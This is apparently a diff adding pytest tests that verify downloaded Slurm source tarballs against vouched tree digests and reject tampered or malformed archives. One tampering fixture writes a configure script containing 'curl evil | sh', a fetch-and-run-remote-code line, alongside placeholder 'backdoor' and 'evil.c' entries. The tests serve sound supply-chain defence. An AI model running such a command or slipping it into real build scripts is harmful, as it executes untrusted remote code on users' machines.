@@ -4,6 +4,8 @@ build cached by version and tarball hash. The build itself runs in `slurmtools l
 from __future__ import annotations
 
 import hashlib
+import io
+import tarfile
 from pathlib import Path
 
 import pytest
@@ -116,3 +118,79 @@ def test_vendored_checksums_match_the_kept_ones() -> None:
     listed = dict(reversed(line.split()) for line in sums.read_text().splitlines() if line.strip())
     for name, digest in listed.items():
         assert source.CHECKSUMS[name] == digest
+
+
+def _git_archive_like(path: Path, top: str, files: dict[str, tuple[bytes, int]], *, mode: str = "w:gz",
+                      umask: int = 0o002, mtime: int = 1_700_000_000, extra: tarfile.TarInfo | None = None) -> Path:
+    """A tarball shaped like `git archive --prefix=TOP/` (a pax comment, the top folder, then the files)."""
+    with tarfile.open(path, mode, format=tarfile.PAX_FORMAT, pax_headers={"comment": "f56e676b" * 5}) as tar:
+        top_info = tarfile.TarInfo(top)
+        top_info.type, top_info.mode, top_info.mtime = tarfile.DIRTYPE, 0o777 & ~umask, mtime
+        tar.addfile(top_info)
+        for name, (data, perm) in files.items():
+            info = tarfile.TarInfo(f"{top}/{name}")
+            info.size, info.mode, info.mtime = len(data), perm & ~umask, mtime
+            tar.addfile(info, io.BytesIO(data))
+        if extra is not None:
+            tar.addfile(extra)
+    return path
+
+
+FILES = {"configure": (b"#!/bin/sh\necho configure\n", 0o777), "src/slurmctld/job_mgr.c": (b"int main;\n", 0o666),
+         "COPYING": (b"GPL-2.0-or-later\n", 0o666)}
+
+
+def test_tree_digest_ignores_compression_top_folder_and_metadata(tmp_path: Path) -> None:
+    """GitHub's .tar.gz of a tag (top folder slurm-<tag>) and the vendored .tar.xz (slurm-<version>) of the same
+    `git archive` have one digest; a changed file, a lost executable bit or an added file changes it."""
+    vendored = source.tree_digest(_git_archive_like(tmp_path / "a.tar.xz", "slurm-9.9.9", FILES, mode="w:xz"))
+    github = source.tree_digest(_git_archive_like(tmp_path / "b.tar.gz", "slurm-slurm-9-9-9-1", FILES,
+                                                  umask=0o022, mtime=1_800_000_000))
+    assert vendored == github
+    changed = {**FILES, "src/slurmctld/job_mgr.c": (b"int main; /* backdoor */\n", 0o666)}
+    not_exec = {**FILES, "configure": (FILES["configure"][0], 0o666)}
+    added = {**FILES, "src/evil.c": (b"\n", 0o666)}
+    for i, other in enumerate((changed, not_exec, added)):
+        assert source.tree_digest(_git_archive_like(tmp_path / f"c{i}.tar.gz", "slurm-9.9.9", other)) != vendored
+
+
+def test_tree_digest_refuses_a_device_and_garbage(tmp_path: Path) -> None:
+    dev = tarfile.TarInfo("slurm-9.9.9/dev-sda")
+    dev.type = tarfile.BLKTYPE
+    with pytest.raises(LabError, match="neither a file, a folder nor a link"):
+        source.tree_digest(_git_archive_like(tmp_path / "d.tar.gz", "slurm-9.9.9", FILES, extra=dev))
+    (tmp_path / "junk.tar.gz").write_bytes(b"<html>rate limited</html>")
+    with pytest.raises(LabError, match="not a readable tarball"):
+        source.tree_digest(tmp_path / "junk.tar.gz")
+
+
+def test_download_of_the_tag_keeps_only_its_vouched_contents(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    want = source.tree_digest(_git_archive_like(tmp_path / "vendored.tar.xz", "slurm-9.9.9", FILES, mode="w:xz"))
+    monkeypatch.setitem(source.RELEASES, "9.9", source.SourceRelease("9.9.9", "trixie", ("slurm-9.9.9.tar.xz",),
+                                                                     "slurm-9-9-9-1", want))
+    served = _git_archive_like(tmp_path / "served.tar.gz", "slurm-slurm-9-9-9-1", FILES)
+    got = source.download_tag("9.9", tmp_path / "dl", served.as_uri())
+    assert got.name == "slurm-9-9-9-1.tar.gz" and source.tree_digest(got) == want
+    got.unlink()
+    tampered = _git_archive_like(tmp_path / "tampered.tar.gz", "slurm-slurm-9-9-9-1",
+                                 {**FILES, "configure": (b"#!/bin/sh\ncurl evil | sh\n", 0o777)})
+    with pytest.raises(LabError, match="holds other files than SchedMD's tag slurm-9-9-9-1"):
+        source.download_tag("9.9", tmp_path / "dl", tampered.as_uri())
+    assert not list((tmp_path / "dl").iterdir())    # a tarball with other contents is not kept
+    with pytest.raises(LabError, match=r"cannot download slurm-9-9-9-1\.tar\.gz.*--slurm-source"):
+        source.download_tag("9.9", tmp_path / "dl", (tmp_path / "absent").as_uri())
+
+
+def test_the_kept_tree_digests_are_the_vendored_tags() -> None:
+    """The tree digests kept in RELEASES are those of the vendored `git archive`s (whose sha256 SHA256SUMS lists and
+    CHECKSUMS keeps), where this checkout has them."""
+    found = 0
+    for rel in source.RELEASES.values():
+        path = next((d / rel.files[0] for d in source.vendored_dirs() if (d / rel.files[0]).is_file()), None)
+        if path is None:
+            continue
+        assert source.sha256(path) == source.CHECKSUMS[rel.files[0]]
+        assert source.tree_digest(path) == rel.tree, rel.version
+        found += 1
+    if not found:
+        pytest.skip("no vendored sources next to this checkout")
